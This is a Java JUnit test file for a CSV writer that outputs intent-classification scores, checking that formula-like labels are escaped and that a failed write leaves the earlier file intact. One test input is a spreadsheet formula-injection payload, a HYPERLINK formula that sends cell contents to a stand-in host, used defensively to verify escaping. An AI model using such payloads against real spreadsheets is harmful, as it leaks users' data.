package dev.loopwise.model.intent;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import dev.loopwise.common.file.Place;
import dev.loopwise.ticket.TicketRow;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The scores file is opened in spreadsheets: labels from the evaluated file stay one cell each and never run as formulas. */
class IntentScoresFileTest {
    @TempDir
    Path dir;

    @Test
    void labelsThatLookLikeFormulasOrHoldCommasStayOneTextCell() throws Exception {
        String formula = "=HYPERLINK(\"http://x.test/?\"&A1,\"refund\")";
        IntentHead head = new IntentHead(IntentHead.TRAINED, List.of(formula, "track, order"), new float[][] {{1, 0}, {0, 1}},
                new float[] {0, 0}, 0.4, null);
        Path file = dir.resolve("scores.csv");
        IntentScoresFile.write(file, head, new float[][] {{1, 0}}, List.of(row("@SUM(1)")), new float[][] {{0, 1}}, List.of(row("-2+3")));
        List<String> lines = Files.readAllLines(file);
        assertEquals("split,gold,best,p_best,p_second,p_oos_class", lines.get(0));
        assertEquals("validation,'@SUM(1),\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"refund\"\")\"", lines.get(1).substring(0, lines.get(1).indexOf(",0.")));
        assertEquals("test,'-2+3,\"track, order\"", lines.get(2).substring(0, lines.get(2).indexOf(",0.")));
    }

    @Test
    void aRunThatFailsWhileWritingLeavesTheEarlierScoresAsTheyWere() throws Exception {
        IntentHead head = new IntentHead(IntentHead.TRAINED, List.of("refund", "track"), new float[][] {{1, 0}, {0, 1}},
                new float[] {0, 0}, 0.4, null);
        Path file = dir.resolve("scores.csv");
        IntentScoresFile.write(file, head, new float[][] {{1, 0}}, List.of(row("refund")), new float[][] {{0, 1}}, List.of(row("track")));
        String earlier = Files.readString(file);

        // The second validation row has no label: the header and first row are written before the write fails.
        assertThrows(IndexOutOfBoundsException.class, () -> IntentScoresFile.write(file, head, new float[][] {{1, 0}, {0, 1}},
                List.of(row("refund")), new float[][] {{0, 1}}, List.of(row("track"))));
        assertEquals(earlier, Files.readString(file));
        try (Stream<Path> left = Files.list(dir)) {
            assertEquals(List.of(file), left.toList());
        }
    }

    @Test
    void ordinaryLabelsAreWrittenAsTheyAre() {
        assertEquals("refund_request", IntentScoresFile.cell("refund_request"));
        assertEquals("oos", IntentScoresFile.cell("oos"));
        assertEquals("", IntentScoresFile.cell(null));
    }

    private static TicketRow row(String label) {
        return new TicketRow(Place.line(1), "text " + label, label, null, "test", Map.of());
    }
}
